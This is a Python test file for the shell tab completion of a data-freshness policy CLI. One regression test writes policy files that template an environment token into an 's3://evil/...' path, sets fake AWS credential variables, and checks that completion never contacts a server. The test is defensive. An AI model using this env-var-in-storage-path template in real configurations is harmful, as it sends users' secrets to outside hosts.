import os
import socket
import subprocess
import sys

import pytest


def complete(project, *words):
    """What the shell is offered for the last word."""
    script = project / "script.py"
    script.write_text("import sys\nfrom etc_policy.cli.main import main\nsys.exit(main())\n")
    environ = {"_ETC_COMPLETE": "bash_complete", "COMP_WORDS": "etc " + " ".join(words), "COMP_CWORD": str(len(words))}
    done = subprocess.run(
        [sys.executable, str(script)], capture_output=True, text=True, cwd=project, env={**os.environ, **environ}
    )
    assert done.stderr == ""
    return [line.split(",")[1] for line in done.stdout.splitlines() if line]


@pytest.mark.parametrize(
    ("words", "offered"),
    [
        (("fre",), ["freshness"]),
        (("plan", "--det"), ["--detailed-exitcode"]),
        (("plan", "--select", "o"), ["orders_ro"]),
        (("plan", "--exclude", "pa"), ["payments_ro"]),
        (("wait", ""), ["orders_ro", "payments_ro"]),
        (("completion", ""), ["bash", "zsh", "fish"]),
    ],
)
def test_offers(project, words, offered):
    assert complete(project, *words) == offered


def test_a_project_with_errors_offers_nothing(project):
    (project / "policies" / "a.yml").write_text("version: 1\npolicies: [{nam: x}]\n")
    assert complete(project, "plan", "--select", "") == []


@pytest.mark.parametrize("flags", [(), ("--untrusted",)])
def test_the_tab_key_looks_nothing_up(project, monkeypatch, flags):
    """In a stranger's project it sent any variable to any server, or started Java with any option, `--untrusted` or not."""
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "ETC_TEST_TOKEN"):
        monkeypatch.setenv(name, "key")
    place = "s3://evil/x/*" if flags else "s3://evil/{{ env_var('ETC_TEST_TOKEN') }}/*"
    rest = "event_time_column: ts, data_latency: 1h"
    (project / "policies" / "b.yml").write_text(
        f"version: 1\npolicies:\n  - {{name: 'x_{{table}}', tables: {{path: \"{place}\"}}, {rest}}}\n"
    )
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        storage = f"{{endpoint: 'http://127.0.0.1:{server.getsockname()[1]}', region: us-east-1, timeout: 1s}}"
        (project / "etc_project.yml").write_text(
            f"profiles: {{p: {{target: t, targets: {{t: {{storage: {storage}}}}}}}}}\n"
        )
        assert complete(project, "plan", *flags, "--select", "o") == ["orders_ro"]
        for name in ("a", "b"):  # two that would have one name
            (project / "found" / name / ".hoodie").mkdir(parents=True)
        (project / "policies" / "c.yml").write_text(
            f"version: 1\npolicies:\n  - {{name: same, for_each: found/*, table: 's3://evil/{{{{ each.name }}}}', {rest}}}\n"
        )
        assert complete(project, "plan", *flags, "--select", "o") == ["orders_ro"]
        with pytest.raises(BlockingIOError):
            server.accept()


def test_an_untrusted_project_is_read_as_such(project):
    (project / "policies" / "b.yml").write_text(
        "version: 1\npolicies:\n  - {name: x, table: \"{{ env_var('HOME') }}/x\", event_time_column: ts, data_latency: 1h}\n"
    )
    assert complete(project, "plan", "--select", "o") == ["orders_ro"]
    assert complete(project, "plan", "--untrusted", "--select", "o") == []
    assert complete(project, "plan", "--untrusted", "--allow", "HOME", "--select", "o") == ["orders_ro"]


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_scripts(etc, shell):
    code, out, _ = etc("completion", shell)
    assert code == 0
    assert f"_ETC_COMPLETE={shell}_complete" in out
